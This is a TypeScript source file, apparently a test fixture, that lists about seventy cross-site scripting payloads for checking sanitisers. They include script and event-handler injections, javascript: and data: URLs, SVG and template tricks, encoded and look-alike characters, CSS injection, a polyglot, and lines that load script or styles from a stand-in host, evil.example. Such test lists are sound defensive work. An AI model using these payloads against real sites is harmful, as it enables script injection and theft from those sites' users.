/** Words that would like to be a program: what people have tried on pages that hold other people's words. */

/** Says that it ran, in every way at once that a test can see. */
const ran = 'window.__xss=1;alert(1)'

export const payloads: string[] = [
  // Elements of script.
  `<script>${ran}</script>`,
  `</script><script>${ran}</script>`,
  `<ScRiPt>${ran}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src=data:text/javascript,${ran}></script>`,
  `<script type=module>import("data:text/javascript,${ran}")</script>`,
  `<<script>${ran}//<</script>`,
  `<scr<script>ipt>${ran}</scr</script>ipt>`,
  `--><script>${ran}</script><!--`,
  `]]><script>${ran}</script>`,
  `</title></textarea></style><script>${ran}</script>`,
  // Elements that act when something happens to them.
  `<img src=x onerror=${ran}>`,
  `<img src=x onerror="${ran}">`,
  `"><img src=x onerror=${ran}>`,
  `'><img src=x onerror='${ran}'>`,
  `<body onload=${ran}>`,
  `<input autofocus onfocus=${ran}>`,
  `<details open ontoggle=${ran}>x</details>`,
  `<video><source onerror=${ran}></video>`,
  `<audio src=x onerror=${ran}>`,
  `<marquee onstart=${ran}>x</marquee>`,
  `<a href="#" onmouseover="${ran}">x</a>`,
  `" onfocus="${ran}" autofocus tabindex=0 x="`,
  `' onmouseover='${ran}' x='`,
  `x" style="position:fixed;inset:0" onpointerenter="${ran}`,
  `<form><button formaction="javascript:${ran}">x</button></form>`,
  `<iframe src="javascript:${ran}"></iframe>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<object data="javascript:${ran}"></object>`,
  `<embed src="javascript:${ran}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${ran}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  // Drawings and formulas.
  `<svg onload=${ran}>`,
  `<svg/onload=${ran}//`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><a xlink:href="javascript:${ran}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${ran} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${ran}</script></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ran}>`,
  // Addresses.
  `javascript:${ran}`,
  `JaVaScRiPt:${ran}`,
  ` javascript:${ran}`,
  `java\tscript:${ran}`,
  `javascript://example.org/%0a${ran}`,
  `data:text/html,<script>${ran}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `https://example.org/"onmouseover="${ran}`,
  `//evil.example/x`,
  `https://example.org/?x=<script>${ran}</script>`,
  `https://example.org/x' onclick='${ran}`,
  `https://javascript:${ran}@example.org/`,
  // Templates and words that are read twice.
  `{{constructor.constructor('${ran}')()}}`,
  '${' + ran + '}',
  `<%= ${ran} %>`,
  `#{${ran}}`,
  `&lt;script&gt;${ran}&lt;/script&gt;`,
  `%3Cscript%3E${ran}%3C/script%3E`,
  `\\u003cscript\\u003e${ran}\\u003c/script\\u003e`,
  `{"type":{},"props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${ran}>"}}}`,
  `__proto__`,
  // One that fits nearly everywhere.
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${ran} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${ran}//>\\x3e`,
  // Letters that look like others, turn the line round, or are not seen.
  `＜script＞${ran}＜/script＞`,
  `‮<script>${ran}</script>`,
  `<img src=x\u00a0onerror=${ran}>`,
  `<\u200bscript>${ran}</\u200bscript>`,
  `ʺ＞<svg onload=${ran}>`,
  // Styles.
  `</style><style>*{display:none}</style>`,
  `x;background:url(https://evil.example/x);`,
  `<div style="background:url(javascript:${ran})">x</div>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `red;}body{display:none}/*`,
]

/** Those that look like the address of something: a field for an address refuses all the others. */
export const addresses = payloads.filter((words) => /^\s*[\w\t]*:/.test(words) || words.startsWith('//'))
